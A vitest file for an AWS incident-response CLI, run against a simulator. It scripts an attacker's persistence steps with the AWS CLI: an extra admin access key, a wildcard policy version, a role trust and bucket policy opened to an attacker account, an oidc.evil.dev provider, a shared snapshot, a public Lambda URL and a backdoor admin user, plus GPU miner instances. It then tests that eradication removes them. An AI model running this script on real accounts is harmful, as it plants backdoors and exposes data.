import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  AttachRolePolicyCommand,
  CreatePolicyCommand,
  CreateRoleCommand,
  GetPolicyCommand,
  GetRoleCommand,
  IAMClient,
  ListAccessKeysCommand,
  ListOpenIDConnectProvidersCommand,
} from '@aws-sdk/client-iam';
import {
  CreateSnapshotCommand,
  CreateVolumeCommand,
  DescribeKeyPairsCommand,
  DescribeSnapshotAttributeCommand,
  DescribeSnapshotsCommand,
  EC2Client,
  RunInstancesCommand,
  CreateSecurityGroupCommand,
  ImportKeyPairCommand,
} from '@aws-sdk/client-ec2';
import {
  CreateFunctionCommand,
  GetFunctionCommand,
  GetFunctionUrlConfigCommand,
  LambdaClient,
} from '@aws-sdk/client-lambda';
import { CreateBucketCommand, GetBucketPolicyCommand, HeadBucketCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLatencyProxy } from '../actions/test-support/latency-proxy.js';
import { verifyCase } from '../case/verify.js';
import { createUserWithKey, startSim, VICTIM_ACCOUNT, type RunningSim } from '../sim/index.js';
import { zipOneFile } from '../sim/services/lambda/zip.js';
import { amiFor } from '../sim/scenarios/world.js';
import { runShell } from '../sim/test-support/aws.js';
import { runCli, type TestCreds } from '../test-support/cli.js';
import { killBetweenSteps } from '../test-support/kill-between-steps.js';

const ADMIN = 'arn:aws:iam::aws:policy/AdministratorAccess';
const ATTACKER = '444455556666';
const ATTACKER_IP = '185.220.101.4';
const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILT8JP9jZHhhrObTMUM3AKYnwXKhy8Shr4/prZiEBnU2 root@kali';
const TRUST = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::${VICTIM_ACCOUNT}:root"},"Action":"sts:AssumeRole"}]}`;
const DEPLOY_DOC =
  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:PutObject","Resource":"arn:aws:s3:::acme-data/*"}]}';

let sim: RunningSim;
let responder: TestCreds;
let root: string;
const cli = (args: string[]) => runCli(args, { endpoint: sim.endpoint, creds: responder, root });
const as = <C>(Client: new (c: Record<string, unknown>) => C, region = 'us-east-1') =>
  new Client({
    region,
    endpoint: sim.endpoint,
    credentials: responder,
    maxAttempts: 1,
    forcePathStyle: true,
  });

beforeAll(async () => {
  sim = await startSim({ port: 0, seed: 'cli-intrusion', lookupEventsPerSecond: 200 });
  root = mkdtempSync(join(tmpdir(), 'tq-intrusion-'));
  responder = createUserWithKey(sim.state, VICTIM_ACCOUNT, 'responder', { managedPolicies: [ADMIN] }).key;
});
afterAll(() => sim.stop());

/** The journal's record of what eradication acted on and why (`eradicate.items`). */
interface EradicateItems {
  source: string;
  chosen: { id: string; scopeId?: string; from?: string }[];
  disagreements: { id: string; why: string }[];
}

describe('a persistence intrusion scripted with the official AWS CLI, then respond --yes', () => {
  it('is fully cleaned; the existing admin, the role, the bucket, the snapshot and the function remain', async () => {
    // What the organisation had: an admin with its key, a deploy role and policy, a data bucket, a
    // backup snapshot, an API function; and a developer whose admin key leaks.
    const admin = createUserWithKey(sim.state, VICTIM_ACCOUNT, 'ops-admin', { managedPolicies: [ADMIN] }).key;
    const iam = as(IAMClient);
    await iam.send(new CreateRoleCommand({ RoleName: 'deploy-role', AssumeRolePolicyDocument: TRUST }));
    const policyArn = (
      await iam.send(new CreatePolicyCommand({ PolicyName: 'app-deploy-policy', PolicyDocument: DEPLOY_DOC }))
    ).Policy!.Arn!;
    await iam.send(new AttachRolePolicyCommand({ RoleName: 'deploy-role', PolicyArn: policyArn }));
    const fnRole = (
      await iam.send(new CreateRoleCommand({ RoleName: 'fn-role', AssumeRolePolicyDocument: TRUST }))
    ).Role!.Arn!;
    await as(S3Client).send(new CreateBucketCommand({ Bucket: 'acme-data' }));
    const ec2 = as(EC2Client);
    const volume = (await ec2.send(new CreateVolumeCommand({ AvailabilityZone: 'us-east-1a', Size: 8 })))
      .VolumeId!;
    const snapshot = (
      await ec2.send(new CreateSnapshotCommand({ VolumeId: volume, Description: 'nightly backup' }))
    ).SnapshotId!;
    await as(LambdaClient).send(
      new CreateFunctionCommand({
        FunctionName: 'acme-api',
        Runtime: 'python3.12',
        Role: fnRole,
        Handler: 'index.handler',
        Code: { ZipFile: zipOneFile('index.py', 'def handler(e, c):\n    return 1\n') },
      }),
    );
    const victim = createUserWithKey(sim.state, VICTIM_ACCOUNT, 'ci-bot', { managedPolicies: [ADMIN] }).key;

    // The attacker, with the leaked key and the official CLI.
    sim.state.setApparentIp(victim.accessKeyId, ATTACKER_IP);
    writeFileSync(join(root, 'key.pub'), SSH_KEY);
    const script = `
      set -e
      $AWS iam create-access-key --user-name ops-admin > /dev/null
      $AWS iam create-policy-version --policy-arn ${policyArn} --set-as-default --policy-document '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' > /dev/null
      $AWS iam update-assume-role-policy --role-name deploy-role --policy-document '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::${VICTIM_ACCOUNT}:root"},"Action":"sts:AssumeRole"},{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::${ATTACKER}:root"},"Action":"sts:AssumeRole"}]}'
      $AWS iam create-open-id-connect-provider --url https://oidc.evil.dev --client-id-list sts.amazonaws.com --thumbprint-list 9e99a48a9960b14926bb7f3b02e22da2b0ab7280 > /dev/null
      $AWS ec2 import-key-pair --key-name ops-recovery --public-key-material fileb://${join(root, 'key.pub')} > /dev/null
      $AWS ec2 modify-snapshot-attribute --snapshot-id ${snapshot} --attribute createVolumePermission --operation-type add --user-ids ${ATTACKER}
      $AWS s3api put-bucket-policy --bucket acme-data --policy '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::${ATTACKER}:root"},"Action":["s3:GetObject","s3:ListBucket"],"Resource":["arn:aws:s3:::acme-data","arn:aws:s3:::acme-data/*"]}]}'
      $AWS lambda create-function-url-config --function-name acme-api --auth-type NONE > /dev/null
      $AWS lambda add-permission --function-name acme-api --statement-id public --action lambda:InvokeFunctionUrl --principal '*' --function-url-auth-type NONE > /dev/null
      $AWS iam create-user --user-name svc-maint > /dev/null
      $AWS iam attach-user-policy --user-name svc-maint --policy-arn ${ADMIN}
      $AWS iam create-login-profile --user-name svc-maint --password 'Maint-2026!x9' > /dev/null
    `;
    const planted = await runShell(sim, victim, script);
    expect([planted.code, planted.stderr]).toEqual([0, '']);

    const dir = join(root, 'case');
    const responded = await cli(['respond', victim.accessKeyId, '--yes', '--case', dir, '--json']);
    expect(responded.err).not.toMatch(/error:/);
    const r = JSON.parse(responded.out) as {
      clean: boolean;
      phases: { phase: string; state: string; summary: string }[];
    };
    expect(r.phases.find((p) => p.phase === 'eradicate')?.state).toBe('done');
    expect(r.clean).toBe(true);
    // Planned from scope, every item of it explained by the calls (none gone, none unexplained).
    const items = readFileSync(join(dir, 'journal.jsonl'), 'utf8')
      .split('\n')
      .filter((l) => l.includes('"eradicate.items"'))
      .map((l) => (JSON.parse(l) as { data: EradicateItems }).data);
    expect(items[0]?.source).toMatch(/^scope\.json/);
    expect(items[0]?.disagreements).toEqual([]);
    expect(new Set(items[0]?.chosen.map((c) => c.from))).toEqual(new Set(['both']));
    expect(items[0]?.chosen.map((c) => c.scopeId?.replace(/AKIA\w+/, 'AKIA…')).sort()).toEqual(
      [
        'access-key/global/AKIA…',
        'bucket-policy/us-east-1/acme-data',
        'iam-user/global/svc-maint',
        'key-pair/us-east-1/ops-recovery',
        'lambda-permission/us-east-1/acme-api',
        'lambda-url/us-east-1/acme-api',
        'oidc-provider/global/oidc.evil.dev',
        'policy-version/global/app-deploy-policy',
        'role-trust/global/deploy-role',
        `snapshot-share/us-east-1/${snapshot}`,
      ].sort(),
    );

    // Every backdoor is gone.
    const keys = (await iam.send(new ListAccessKeysCommand({ UserName: 'ops-admin' }))).AccessKeyMetadata!;
    expect(keys.map((k) => [k.AccessKeyId, k.Status])).toEqual([[admin.accessKeyId, 'Active']]);
    expect((await iam.send(new GetPolicyCommand({ PolicyArn: policyArn }))).Policy!.DefaultVersionId).toBe(
      'v1',
    );
    expect(
      decodeURIComponent(
        (await iam.send(new GetRoleCommand({ RoleName: 'deploy-role' }))).Role!.AssumeRolePolicyDocument!,
      ),
    ).toBe(TRUST);
    expect((await iam.send(new ListOpenIDConnectProvidersCommand({}))).OpenIDConnectProviderList).toEqual([]);
    expect((await ec2.send(new DescribeKeyPairsCommand({}))).KeyPairs).toEqual([]);
    expect(
      (
        await ec2.send(
          new DescribeSnapshotAttributeCommand({ SnapshotId: snapshot, Attribute: 'createVolumePermission' }),
        )
      ).CreateVolumePermissions,
    ).toEqual([]);
    await expect(
      as(S3Client).send(new GetBucketPolicyCommand({ Bucket: 'acme-data' })),
    ).rejects.toMatchObject({ name: 'NoSuchBucketPolicy' });
    await expect(
      as(LambdaClient).send(new GetFunctionUrlConfigCommand({ FunctionName: 'acme-api' })),
    ).rejects.toMatchObject({ name: 'ResourceNotFoundException' });
    expect(sim.state.accountOrThrow(VICTIM_ACCOUNT).iam.users['svc-maint']).toBeUndefined();
    // What existed before remains.
    await as(S3Client).send(new HeadBucketCommand({ Bucket: 'acme-data' }));
    expect(
      (await ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [snapshot] }))).Snapshots,
    ).toHaveLength(1);
    await as(LambdaClient).send(new GetFunctionCommand({ FunctionName: 'acme-api' }));
    expect(sim.state.accountOrThrow(VICTIM_ACCOUNT).iam.users['ops-admin']).toBeDefined();
    expect((await verifyCase(dir)).ok).toBe(true);
  }, 300_000);

  it('an apply killed between steps resumes and applies each step exactly once; a key pair left with --exclude keeps the case from reading eradicated', async () => {
    const victim = createUserWithKey(sim.state, VICTIM_ACCOUNT, 'gpu-bot', { managedPolicies: [ADMIN] }).key;
    sim.state.setApparentIp(victim.accessKeyId, ATTACKER_IP);
    const region = 'eu-north-1';
    const KEPT = `key-pair/${region}/miner-key`;
    const attacker = new EC2Client({ region, endpoint: sim.endpoint, credentials: victim, maxAttempts: 1 });
    const sg = (await attacker.send(new CreateSecurityGroupCommand({ GroupName: 'miner', Description: 'm' })))
      .GroupId!;
    await attacker.send(
      new ImportKeyPairCommand({ KeyName: 'miner-key', PublicKeyMaterial: Buffer.from(SSH_KEY) }),
    );
    const ids = (
      await attacker.send(
        new RunInstancesCommand({
          ImageId: amiFor(region),
          InstanceType: 'g4dn.12xlarge',
          MinCount: 3,
          MaxCount: 3,
          SecurityGroupIds: [sg],
          KeyName: 'miner-key',
        }),
      )
    ).Instances!.map((i) => i.InstanceId!);
    const dir = join(root, 'case-killed');
    for (const args of [
      ['triage', victim.accessKeyId],
      ['contain', '--apply'],
      ['collect'],
      ['investigate'],
    ]) {
      const out = await cli([...args, '--case', dir]);
      expect(out.code).toBeLessThan(2);
    }

    // Slow calls leave a window between two steps; the child is killed there, for real.
    const proxy = await startLatencyProxy({ host: '127.0.0.1', port: sim.port }, 300);
    const lines = await killBetweenSteps({
      args: ['eradicate', '--apply', '--exclude', KEPT],
      caseDir: dir,
      endpoint: proxy.endpoint,
      creds: responder,
      home: root,
      planPrefix: 'eradicate-',
    });
    await proxy.close();
    expect(lines).toMatch(/"step\.applied".*"planId":"eradicate-1"/);
    expect(lines).not.toMatch(/"plan\.applied".*eradicate-/);

    const resumed = await cli(['eradicate', '--apply', '--case', dir, '--json']);
    expect(resumed.err).toMatch(/Resuming the interrupted eradicate-1/);
    const result = JSON.parse(resumed.out) as {
      state: string;
      apply: { resumed: boolean; results: { outcome: string }[] };
      left: { item: { id: string }; why: string }[];
    };
    expect(result.apply.resumed).toBe(true);
    expect(result.apply.results[0]!.outcome).toBe('already-done');
    // Every step applied and read back, but the resumed plan still leaves the key pair apart.
    expect(result.state).toBe('eradicated');
    expect(result.left).toContainEqual({
      item: expect.objectContaining({ id: KEPT }) as object,
      why: 'excluded (--exclude)',
    });
    expect(resumed.code).toBe(3);
    const status = () =>
      (JSON.parse(readFileSync(join(dir, 'case.json'), 'utf8')) as { status: string }).status;
    expect(status()).not.toBe('eradicated');
    // A second apply, as a person types it: nothing more to do, and still not called eradicated.
    const again = await cli(['eradicate', '--apply', '--exclude', KEPT, '--case', dir]);
    expect(again.code).toBe(3);
    expect(again.out).toContain(
      `APPLIED, NOT ERADICATED: every step applied and read back, but the attacker's ${KEPT} left (--exclude).`,
    );
    expect(status()).not.toBe('eradicated');
    // Reading the plan back later names what it left, and is not a clean bill either.
    const verified = await cli(['eradicate', '--verify', '--case', dir]);
    expect(verified.out).toContain(
      `VERIFIED, NOT ERADICATED: every step of the last plan still holds, but it left the attacker's ${KEPT} (--exclude).`,
    );
    expect(verified.code).toBe(3);
    expect(
      (await as(EC2Client, region).send(new DescribeKeyPairsCommand({}))).KeyPairs?.map((k) => k.KeyName),
    ).toEqual(['miner-key']);
    // Each AWS change happened once: one snapshot per volume, one termination per instance.
    const calls = (name: string) =>
      sim.state
        .accountOrThrow(VICTIM_ACCOUNT)
        .cloudtrail.events.filter(
          (e) => e.eventName === name && (e.userAgent ?? '').includes('tourniquet/') && !e.errorCode,
        );
    const created = calls('CreateSnapshot').filter((e) => e.awsRegion === region);
    expect(created).toHaveLength(ids.length);
    for (const id of ids)
      expect(
        calls('TerminateInstances').filter((e) => JSON.stringify(e.requestParameters).includes(id)),
      ).toHaveLength(1);
    expect(calls('DeleteSecurityGroup').filter((e) => e.awsRegion === region)).toHaveLength(1);
    expect(calls('DeleteKeyPair').filter((e) => e.awsRegion === region)).toHaveLength(0);
    expect((await verifyCase(dir)).ok).toBe(true);
  }, 300_000);
});
